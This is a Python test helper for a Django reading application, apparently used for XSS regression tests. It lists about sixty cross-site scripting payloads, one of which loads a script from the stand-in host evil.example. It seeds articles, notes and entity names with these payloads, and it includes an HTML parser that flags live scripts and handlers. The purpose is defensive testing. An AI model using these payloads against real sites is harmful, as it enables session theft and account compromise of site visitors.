"""XSS payloads, a reading room full of them, and a check that a rendered page carries none of them live.

Shared by tests/test_xss.py (every page through Django's client) and tests/browser/test_xss_browser.py
(the same pages in Chromium, where a script that ran would open a dialog or add an element).
"""

from __future__ import annotations

import hashlib
import json
from datetime import date
from html.parser import HTMLParser

from django.utils.text import slugify

from reader.curation import record
from reader.extraction.normalize import match_key
from reader.models import Article, BlockedName, Entity, Figure, Mention, Note, Paragraph, Quote
from reader.roles import SENIOR_EDITORS_GROUP, ensure_groups

MARK = "XSS"  # in every payload's executable part: a live one shows up in an attribute, a script or a dialog

PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=//evil.example/XSS.js></SCRIPT>",
    "<script>document.body.dataset.pwned='XSS'</script>",
    "</p><script>alert('XSS')</script><p>",
    "</textarea><script>alert('XSS')</script>",
    "</title><script>alert('XSS')</script>",
    "</option></select><script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<img src=\"x\" onerror=\"alert('XSS')\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=x:alert(alt) onerror=eval(src) alt='XSS'>",
    "<body onload=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "<svg><script>alert('XSS')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('XSS')\"><text x=20 y=20>XSS</text></a></svg>",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')>",
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>",
    "<object data=\"javascript:alert('XSS')\"></object>",
    "<embed src=\"javascript:alert('XSS')\">",
    "<a href=\"javascript:alert('XSS')\">click</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">click</a>",
    "<a href=\"&#106;avascript:alert('XSS')\">click</a>",
    "<a href=\"data:text/html,<script>alert('XSS')</script>\">d</a>",
    "[link](javascript:alert('XSS'))",
    "[link](https://example.org\" onmouseover=\"alert('XSS'))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=) XSS",
    "<div onmouseover=\"alert('XSS')\">hover</div>",
    "<details open ontoggle=alert('XSS')>",
    "<input autofocus onfocus=alert('XSS')>",
    "<video><source onerror=\"alert('XSS')\"></video>",
    "<audio src=x onerror=alert('XSS')>",
    "<marquee onstart=alert('XSS')>XSS</marquee>",
    "<form action=\"javascript:alert('XSS')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('XSS')\">go</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('XSS')\">",
    "<base href=\"javascript:alert('XSS')//\">",
    "<link rel=stylesheet href=\"javascript:alert('XSS')\">",
    "<style>body{background:url(\"javascript:alert('XSS')\")}</style>",
    "<div style=\"background-image:url(javascript:alert('XSS'))\">s</div>",
    "\"><script>alert('XSS')</script>",
    "'><img src=x onerror=alert('XSS')>",
    "\" onmouseover=\"alert('XSS')\" x=\"",
    "' onfocus='alert(`XSS`)' autofocus='",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<<script>alert('XSS');//<</script>",
    "<img src=x onerror=alert('XSS')//",
    "<!--<img src=\"--><img src=x onerror=alert('XSS')//\">",
    "<![CDATA[<script>alert('XSS')</script>]]>",
    "{{ 7|add:42 }} {% debug %} XSS",
    "{% load static %}{% include 'base.html' %} XSS",
    "${alert('XSS')} #{XSS} <%= XSS %>",
    "hx-get=\"/admin/\" hx-trigger=load XSS <div hx-get=\"/\" hx-trigger=\"load\">XSS</div>",
    "<div hx-on:click=\"alert('XSS')\">XSS</div>",
    "\u202e<script>alert('XSS')</script>\u200b",
    "％３Ｃscript％３Ealert('XSS')％３C/script％３E <scrіpt>XSS",
    "*<em onmouseover=alert('XSS')>x</em>* **<b onclick=alert('XSS')>b</b>**",
    "> <script>alert('XSS')</script>\n- <img src=x onerror=alert('XSS')>",
    "`<script>alert('XSS')</script>`",
]
assert len(PAYLOADS) >= 50 and all(MARK in p for p in PAYLOADS)

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster"}
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
_NEVER_OURS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet", "marquee", "math", "video",
               "audio", "style"}


def _is_csrf_header(raw: str) -> bool:
    try:
        headers = json.loads(raw)
    except ValueError:
        return False
    return isinstance(headers, dict) and set(headers) == {"X-CSRFToken"} and str(headers["X-CSRFToken"]).isalnum()


class _Live(HTMLParser):
    """Collects what would run in a browser: handlers, script URLs, inline scripts, foreign embedding tags."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._script = None

    def handle_starttag(self, tag, attrs):
        for name, raw in attrs:
            raw = raw or ""
            value = raw.strip().lower().replace("\t", "").replace("\n", "")
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in _URL_ATTRIBUTES and value.startswith(_BAD_SCHEMES):
                self.problems.append(f"<{tag} {name}={value[:40]}>")
            if name == "style" and MARK in raw:
                self.problems.append(f"<{tag} style=…>")
            if name == "hx-headers" and _is_csrf_header(raw):
                continue  # our own header: a random token may spell the marker by chance
            if name.startswith("hx-") and (MARK in raw or (name == "hx-trigger" and "load" in value)):
                self.problems.append(f"<{tag} {name}=…>")
        if tag in _NEVER_OURS or (tag == "meta" and dict(attrs).get("http-equiv")):
            self.problems.append(f"<{tag}>")
        if tag == "script":
            attributes = dict(attrs)
            src = attributes.get("src") or ""
            same_site = src.startswith("/") and not src.startswith("//")  # /static/…, the admin's /admin/jsi18n/
            if attributes.get("type") != "application/json" and not same_site:
                self.problems.append(f"<script {attributes}>")
            self._script = ""

    def handle_data(self, data):
        if self._script is not None:
            self._script += data

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            if MARK in self._script:
                self.problems.append(f"<script>{self._script[:40]}</script>")
            self._script = None


def live_injections(html: str) -> list[str]:
    parser = _Live()
    parser.feed(html)
    parser.close()
    return parser.problems


def _hostile_article(text: str) -> Article:
    """The article an import of `text` stores (a payload for source and title, a quote of Ion Popescu's per line),
    written row by row: what the pages show does not hang on what the model finds in hostile text."""
    header, title, _, *lines = text.rstrip("\n").split("\n")
    article = Article.objects.create(
        slug=slugify(title) or "articol", import_key="xss.txt", title=title, source=header.split(" ", 2)[2],
        published_on=date(2025, 9, 3), raw_text=text, text_sha256=hashlib.sha256(text.encode()).hexdigest(),
    )
    paragraphs = Paragraph.objects.bulk_create(
        Paragraph(article=article, position=i, role="title" if i == 0 else "body", text=line,
                  fingerprint=Paragraph.fingerprint_of(line))
        for i, line in enumerate([title, *lines])
    )
    speaker = Entity.objects.create(name="Ion Popescu", type=Entity.Type.PERSON, key=match_key("Ion Popescu"),
                                    slug=Entity.unique_slug("Ion Popescu"))
    body = paragraphs[1:]
    Mention.objects.bulk_create(Mention(entity=speaker, paragraph=p, article=article, start=0, end=11) for p in body)
    Quote.objects.bulk_create(
        Quote(paragraph=p, article=article, start=p.text.index("„") + 1, end=p.text.rindex("”"), kind="direct",
              speaker=speaker, speaker_name=speaker.name, speaker_mention=speaker.name, cue="a declarat",
              confidence=0.98)
        for p in body
    )
    figure = next(p for p in body if "x=20 y=20" in p.text)  # the import reads a quantity there
    start = figure.text.index("20 y")
    Figure.objects.create(paragraph=figure, start=start, end=start + 4, kind="quantity", value=20, unit="y")
    article.publish()
    return article


def build_hostile_world(*, editor, senior) -> dict:
    """Payloads in article titles and text, quotes' speakers, entity names, notes, revisions and the admin log."""
    senior.groups.add(ensure_groups()[SENIOR_EDITORS_GROUP])
    body = "\n".join(f"Ion Popescu a declarat: „{p.replace(chr(10), ' ')}”." for p in PAYLOADS)
    text = f"date 2025-09-03 {PAYLOADS[7]}\n{PAYLOADS[0]}\n\n{body}\n"
    article = _hostile_article(text)
    paragraphs = list(article.paragraphs.order_by("position"))

    titled = []
    for i, payload in enumerate(PAYLOADS):
        other = Article.objects.create(slug=f"xss-{i}", import_key=f"xss-{i}.txt", title=payload, source=payload,
                                       raw_text=payload, text_sha256=str(i), status=Article.Status.PUBLISHED)
        Paragraph.objects.create(article=other, position=0, role="title", text=payload,
                                 fingerprint=Paragraph.fingerprint_of(payload))
        titled.append(other)

    notes, entities = [], []
    for i, payload in enumerate(PAYLOADS):
        paragraph = paragraphs[1 + i % (len(paragraphs) - 1)]
        note = Note.create(paragraph=paragraph, author=editor if i % 2 else senior, body=payload,
                           kind=Note.Kind.CONTEXT, visibility="editors" if i % 3 == 0 else "public")
        notes.append(note)
        entity = Entity.objects.create(name=payload[:200], type=Entity.Type.PERSON, key=f"{match_key(payload)}-{i}",
                                       slug=f"xss-entity-{i}", aliases=[payload], confirmed=True)
        Mention.objects.create(entity=entity, paragraph=paragraph, start=0, end=3)
        record(user=senior, obj=entity, message=f"renamed from “{payload}”")
        BlockedName.objects.create(key=f"{match_key(payload)}-{i}", name=payload[:200], created_by=senior)
        entities.append(entity)
    for i, quote in enumerate(Quote.objects.filter(paragraph__article=article).order_by("paragraph__position")):
        quote.correct_speaker(by=senior, name=PAYLOADS[i % len(PAYLOADS)])
        quote.speaker = entities[i % len(entities)]
        quote.save()
    revised = notes[1]
    for version, payload in enumerate(PAYLOADS[:5], start=1):
        revised.edit(by=editor, base_version=version, body=payload, kind="context", visibility="public")
    notes[2].soft_delete()
    return {"article": article, "titled": titled, "notes": notes, "entities": entities, "revised": revised}
